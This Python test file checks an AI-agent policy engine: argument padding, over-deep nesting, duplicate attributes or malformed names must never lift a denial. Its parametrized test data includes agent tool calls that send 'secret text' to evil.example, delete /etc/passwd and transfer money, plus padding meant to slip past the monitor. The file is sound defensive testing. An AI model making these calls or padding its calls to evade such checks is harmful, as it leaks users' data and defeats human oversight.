"""Values that a session cannot or may not read: they never grant, and never lift a denial."""

from pathlib import Path
from typing import Any

import pytest

from aimds import policy
from aimds.policy.exact import exact_json

VALUES_MAX = 1024
"""As `crates/aimds-policy/src/limits.rs` has it, and below it the nesting of one value."""
DEPTH_MAX = 16


def call(tool: str, arguments: Any, **more: Any) -> dict[str, Any]:
    known = {"role": "assistant", "trust": "untrusted", "covered": True, "id": "c", "time_ms": 10}
    return {"kind": "tool_call", "tool": tool, "arguments": arguments, **known, **more}


def verdict_of(condition: str, effect: str, folder: Path, event: dict[str, Any]) -> str:
    path = folder / "mine.policy"
    default = "allow" if effect == "deny" else "deny"
    rule = f"when call c to {{email.send, payments.transfer}} {effect} if {condition}"
    path.write_text(f'import "schema.policy"\npolicy p {{ {rule} }}\nset s = {{p}} default {default}', "utf-8")
    return policy.Session(policy.Engine(policy.load(path))).judge(event).verdict


def nested(depth: int) -> Any:
    value: Any = "x"
    for _ in range(depth):
        value = [value]
    return value


@pytest.mark.parametrize("policy_set", ["starter", "careful"])
@pytest.mark.parametrize(
    ("tool", "arguments"),
    [
        ("email.send", {"to": ["x@evil.example"], "body": "my secret text that was read before"}),
        ("http.get", {"url": "https://evil.example/x"}),
        ("http.post", {"url": "https://evil.example/x", "body": "my secret text that was read before"}),
        ("payments.transfer", {"amount": 20_000, "account": "x"}),
        ("files.delete", {"path": "/etc/passwd"}),
    ],
)
@pytest.mark.parametrize("padding", [["x"] * 1100, nested(40), {f"n{number}": 1 for number in range(1100)}])
@pytest.mark.parametrize("is_first", [True, False])
def test_padding_lifts_no_shipped_denial(
    policy_set: str, tool: str, arguments: dict[str, Any], padding: Any, is_first: bool
) -> None:
    """More values than are read, before or behind those that matter: what was stopped without them is stopped."""
    engine = policy.Engine(policy.load(policy_set))
    scores = [(name, 0) for name in engine.detectors]

    def judge(given: dict[str, Any]) -> policy.Decision:
        session = policy.Session(engine)
        page = {"kind": "document", "time_ms": 0, "id": "r", "role": "tool", "trust": "untrusted", "covered": True}
        session.judge({**page, "text": "my secret text that was read before: x@evil.example", "scores": scores})
        return session.judge(call(tool, given, scores=scores, references=["r"]))

    before = judge(arguments)
    padded = judge({"headers": padding, **arguments} if is_first else {**arguments, "headers": padding})
    verdicts = ("allow", "ask", "throttle", "deny")
    assert verdicts.index(padded.verdict) >= verdicts.index(before.verdict)
    assert {fired.rule for fired in before.fired} <= {fired.rule for fired in padded.fired}


@pytest.mark.parametrize(
    "condition",
    [
        "known(c.args)",
        "known(c.args.to)",
        "known(c.args.destinations)",
        "known(c.args.account)",
        'every c.args.to within {"corp.example"}',
        "c.args.destinations.count <= 2000",
        'c.args.subject == "x"',
    ],
)
def test_beyond_the_bounds_all_arguments_are_unknown(condition: str, tmp_path: Path) -> None:
    """Not those that were read first, either: the same name may stand among the others once more."""
    to = ["ann@corp.example"]
    for arguments in (
        {"pad": ["x"] * 1100, "to": to},
        {"to": to, "subject": "x", "pad": ["x"] * 1100},
        {"to": to * 1100, "subject": "x"},
        {"to": to, "pad": nested(DEPTH_MAX + 1)},
        (("to", to), *((f"n{number}", 1) for number in range(1100))),
    ):
        event = call("email.send", arguments)
        for asked in (condition, f"not {condition}"):
            assert verdict_of(asked, "deny", tmp_path, event) == "deny"
            assert verdict_of(asked, "permit", tmp_path, event) == "deny"


def test_up_to_the_bounds_everything_is_read(tmp_path: Path) -> None:
    """1,024 values below the object, 16 levels below an argument."""
    padding = ["x"] * (VALUES_MAX - 3)  # the list itself, the other list and its member
    for arguments in ({"pad": padding, "to": ["a@b.example"]}, {"pad": nested(DEPTH_MAX), "to": "a@b.example"}):
        for condition in ("known(c.args.to)", 'every c.args.to within {"b.example"}', "not known(c.args.subject)"):
            assert verdict_of(condition, "permit", tmp_path, call("email.send", arguments)) == "allow"
    one_more = {"pad": [*padding, "x"], "to": ["a@b.example"]}
    assert verdict_of("known(c.args.to)", "permit", tmp_path, call("email.send", one_more)) == "deny"


def test_attributes_beyond_the_bounds_are_unknown(tmp_path: Path) -> None:
    """As arguments are."""
    for attributes in ({"pad": ["x"] * 1100, "region": "us"}, {"region": "us", "pad": ["x"] * 1100}):
        event = call("email.send", {}, attributes=attributes)
        for condition in ("known(c.region)", "not known(c.region)", 'c.region == "us"', 'c.region != "us"'):
            assert verdict_of(condition, "deny", tmp_path, event) == "deny"
            assert verdict_of(condition, "permit", tmp_path, event) == "deny"


def test_attributes_given_twice_are_unknown(tmp_path: Path) -> None:
    """Nobody can say which one counts."""
    event = call("email.send", {}, attributes=(("region", "us"), ("region", "eu")))
    denied = 'known(c.region) and c.region in {"us"}'
    assert verdict_of(denied, "deny", tmp_path, event) == "deny"
    assert verdict_of(f"not ({denied})", "permit", tmp_path, event) == "deny"


def test_names_that_are_no_text_elsewhere_do_not_end_the_judgement(tmp_path: Path) -> None:
    """A lone surrogate in a name is what JSON may hold and UTF-8 may not."""
    arguments = exact_json('{"\\ud800": 1, "to": ["x@evil.example", "\\udc00"]}')
    event = call("email.send", arguments)
    assert verdict_of('some c.args.to within {"evil.example"}', "deny", tmp_path, event) == "deny"
    assert verdict_of("known(c.args.to)", "permit", tmp_path, event) == "allow"
